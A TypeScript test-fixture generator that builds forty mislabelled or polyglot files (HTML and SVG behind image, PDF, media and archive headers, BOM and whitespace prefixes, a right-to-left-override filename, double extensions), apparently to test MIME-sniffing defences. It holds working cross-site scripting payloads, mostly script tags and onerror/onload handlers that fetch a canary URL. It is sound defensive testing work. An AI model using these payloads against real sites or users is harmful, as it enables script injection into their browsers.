import { Buffer } from 'node:buffer';

export interface DisguisedFile {
  name: string;
  buffer: Buffer;
}

const text = (...parts: (string | number[])[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))));
const utf16 = (words: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(words, 'utf16le')]);

/** The least that each format begins with. */
const GIF = 'GIF89a\x01\x00\x01\x00\x00\x00\x00';
const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const JPEG = [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00];
const PDF = '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n';

/**
 * Forty files that are something else than they say, each of which would tell `canary(n)` if a browser ran it, or drew it as a page.
 * After the sniffing algorithm of the MIME Sniffing Standard: first bytes, white space and comments before them, marks of byte
 * order, formats that begin with a picture and go on as a page, endings that lie.
 */
export function disguisedFiles(canary: (n: number) => string): DisguisedFile[] {
  let n = 0;
  const script = () => `fetch('${canary(n)}');`;
  const page = () => `<html><head><script>${script()}</script></head><body><img src="${canary(n)}" onerror="${script()}"></body></html>`;
  const svg = () =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script()}"><script>${script()}</script><image href="${canary(n)}"/></svg>`;
  const xhtml = () => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script()}</script></html>`;
  const xslt = () => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary(n)}"?><a/>`;
  const worker = () => `${script()} self.onfetch = () => ${script()}`;
  const makers: (() => [string, Buffer | string])[] = [
    () => ['seite.html', page()],
    () => ['seite.htm', `<!DOCTYPE html>${page()}`],
    () => ['seite.xhtml', xhtml()],
    () => ['seite.txt', page()],
    () => ['seite.csv', page()],
    () => ['seite.md', page()],
    () => ['seite', page()],
    () => ['seite.unbekannt', page()],
    () => ['leer davor.txt', ` \n\t\r ${page()}`],
    () => ['bemerkung davor.txt', `<!-- Arbeitsblatt -->${page()}`],
    () => ['marke.txt', `\ufeff${page()}`],
    () => ['utf16.txt', utf16(page())],
    () => ['nullen.txt', text([0, 0, 0], page())],
    () => ['GROSS.HTML', page().toUpperCase().replace(canary(n).toUpperCase(), canary(n))],
    () => ['doppelt.pdf.html', page()],
    () => ['doppelt.html.pdf', page()],
    () => ['zeile\u202elmth.txt', page()],
    () => ['bild.svg', svg()],
    () => ['bild.svgz', svg()],
    () => ['bild.png', svg()],
    () => ['bild.xml', svg()],
    () => ['umwandlung.xml', xslt()],
    () => ['umwandlung.xsl', xslt()],
    () => [
      'rss.xml',
      `<?xml version="1.0"?><rss><channel><script xmlns="http://www.w3.org/1999/xhtml">${script()}</script></channel></rss>`,
    ],
    () => ['gif.gif', text(GIF, `/*${page()}*/=1;${script()}`)],
    () => ['gif.html', text(GIF, page())],
    () => ['png.png', text(PNG, page())],
    () => ['png.html', text(PNG, page())],
    () => ['jpeg.jpg', text(JPEG, page())],
    () => ['jpeg.html', text(JPEG, page())],
    () => ['blatt.pdf', text(PDF, page())],
    () => ['blatt.html', text(PDF, page())],
    () => ['film.mp4', text([0, 0, 0, 0x18], 'ftypisom', page())],
    () => ['ton.mp3', text('ID3\x04\x00\x00\x00\x00\x00\x00', page())],
    () => ['paket.zip', text('PK\x03\x04', page())],
    () => ['programm.js', script()],
    () => ['programm.mjs', worker()],
    () => ['programm.txt', script()],
    () => ['programm.json', `/**/${script()}`],
    () => ['brief.eml', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page()}`],
  ];
  return makers.map((make) => {
    n += 1;
    const [name, contents] = make();
    return { name, buffer: Buffer.isBuffer(contents) ? contents : Buffer.from(contents) };
  });
}
